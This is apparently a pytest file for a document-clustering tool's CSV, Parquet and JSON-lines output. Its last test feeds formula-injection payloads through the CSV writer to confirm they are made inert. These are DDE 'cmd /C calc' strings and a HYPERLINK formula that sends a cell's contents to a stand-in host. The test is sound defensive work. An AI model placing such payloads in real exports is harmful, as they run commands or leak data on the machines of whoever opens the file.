"""Output records: Parquet and CSV friendly to pandas, similarities not rounded."""

from __future__ import annotations

import csv
import json

import pyarrow.parquet as pq
import pytest

from spotsigs.cli import main
from spotsigs.results.records import NO_CLUSTER


@pytest.fixture
def clustered(news_folder, tmp_path):
    """The same run written as JSON lines, CSV and Parquet."""
    outputs = {}
    for fmt in ("jsonl", "csv", "parquet"):
        clusters, pairs = tmp_path / f"c.{fmt}", tmp_path / f"p.{fmt}"
        assert main(["cluster", str(news_folder), "-q", "-o", str(clusters),
                     "--pairs", str(pairs)]) == 0
        outputs[fmt] = (clusters, pairs)
    return outputs


def test_parquet_and_csv_hold_the_same_records_as_json_lines(clustered):
    clusters, pairs = clustered["jsonl"]
    records = [json.loads(line) for line in clusters.read_text(encoding="utf-8").splitlines()]
    table = pq.read_table(clustered["parquet"][0])
    assert table.schema.field("cluster").type == "int64"
    assert table.schema.field("signatures").type == "int64"
    rows = table.to_pylist()
    with open(clustered["csv"][0], encoding="utf-8", newline="") as stream:
        csv_rows = list(csv.DictReader(stream))
    assert len(rows) == len(csv_rows) == len(records)
    for record, row, csv_row in zip(records, rows, csv_rows):
        cluster = NO_CLUSTER if record["cluster"] is None else record["cluster"]
        assert row["cluster"] == int(csv_row["cluster"]) == cluster
        assert row["id"] == csv_row["id"] == record["id"]
        assert row["status"] == record["status"]
    assert any(r["cluster"] == NO_CLUSTER for r in rows)  # the news folder has a 404 page


def test_similarities_are_written_in_full_precision(clustered):
    pairs = [json.loads(line) for line in
             clustered["jsonl"][1].read_text(encoding="utf-8").splitlines()]
    table = pq.read_table(clustered["parquet"][1]).to_pylist()
    assert [p["similarity"] for p in pairs] == [r["similarity"] for r in table]
    assert any(len(repr(p["similarity"])) > 8 for p in pairs)  # not rounded to 6 places


def test_parquet_output_without_pyarrow_is_refused_before_any_work(news_folder, tmp_path,
                                                                    monkeypatch, capsys):
    import importlib.util

    real = importlib.util.find_spec
    monkeypatch.setattr(importlib.util, "find_spec",
                        lambda name, *a: None if name == "pyarrow" else real(name, *a))
    assert main(["cluster", str(news_folder), "-o", str(tmp_path / "c.parquet")]) == 2
    assert "pip install 'spotsigs[parquet]'" in capsys.readouterr().err


def test_parquet_output_of_warc_records_keeps_their_http_status(tmp_path):
    """WARC records carry an HTTP status: an int64 column (null for pages without HTTP)."""
    from pathlib import Path

    io_data = Path(__file__).resolve().parents[1] / "data" / "io"
    out = tmp_path / "c.parquet"
    assert main(["cluster", str(io_data), "-q", "-o", str(out)]) == 0
    table = pq.read_table(out)
    assert table.schema.field("http_status").type == "int64"
    assert 200 in table.column("http_status").to_pylist()


def test_parquet_row_groups_are_cut_alike_whatever_pieces_the_rows_come_in(monkeypatch):
    """The same rows given at once, one by one or in uneven pieces (records or arrow tables)
    give the same bytes, in row groups of PARQUET_ROWS rows."""
    import io

    from spotsigs.results import records as module
    from spotsigs.results.records import CLUSTER_FIELDS, ParquetRows, cluster_record

    monkeypatch.setattr(module, "PARQUET_ROWS", 7)
    rows = [cluster_record(f"d{k}", f"https://x/{k}", k // 3 if k % 5 else -1,
                           f"d{k // 3}" if k % 5 else None, "ok" if k % 5 else "synthetic",
                           None if k % 5 else "too few words", k * 11,
                           200 if k % 2 else None, "en" if k % 3 else "und") for k in range(30)]
    written = []
    for pieces in ([30], [1] * 30, [4, 9, 0, 13, 4], [7, 7, 7, 9]):
        stream, writer, at = io.BytesIO(), None, 0
        writer = ParquetRows(stream, CLUSTER_FIELDS)
        for n in pieces:
            if n % 2:
                writer.write_records(rows[at:at + n])
            else:  # as a table read back from another file
                part = io.BytesIO()
                module.write_records(iter(rows[at:at + n]), CLUSTER_FIELDS, part, "parquet")
                writer.write_table(pq.read_table(part))
            at += n
        assert writer.close() == 30
        written.append(stream.getvalue())
    assert len(set(written)) == 1
    parquet = pq.ParquetFile(io.BytesIO(written[0]))
    assert [parquet.metadata.row_group(k).num_rows for k in range(5)] == [7, 7, 7, 7, 2]
    table = parquet.read().to_pylist()
    assert [r["id"] for r in table] == [r["id"] for r in rows]
    assert table[0]["cluster"] == NO_CLUSTER and table[1]["http_status"] == 200


HOSTILE_IDS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0",
               "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1",
               "'already quoted", "plain-id"]


def test_csv_cells_a_spreadsheet_would_run_are_made_inert_and_read_back_as_written(tmp_path):
    """Ids and URLs come from crawled pages: a cell that starts like a formula gets a leading
    ' (OWASP), in every column that copies it (representative too); reading the file back
    (dedup --clusters, report) gives the ids as they were."""
    from spotsigs.results.records import FORMULA_STARTS, read_cluster_records

    story = "<p>" + "The river rose through the night and the water reached the market. " * 6
    lines = [json.dumps({"id": i, "url": "=cmd|' /C calc'!A0", "html": story + "</p>"})
             for i in HOSTILE_IDS]
    source = tmp_path / "crawl.jsonl"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out, pairs = tmp_path / "c.csv", tmp_path / "p.csv"
    assert main(["cluster", str(source), "-q", "-o", str(out), "--pairs", str(pairs)]) == 0
    for path in (out, pairs):
        with open(path, encoding="utf-8", newline="") as stream:
            for row in csv.DictReader(stream):
                for field, cell in row.items():
                    if field not in ("cluster", "similarity", "signatures"):
                        assert not cell.startswith(FORMULA_STARTS[:-1]), (field, cell)
    records = list(read_cluster_records(out))
    assert [r["id"] for r in records] == HOSTILE_IDS
    assert {r["representative"] for r in records} <= set(HOSTILE_IDS)
    assert {r["url"] for r in records} == {"=cmd|' /C calc'!A0"}
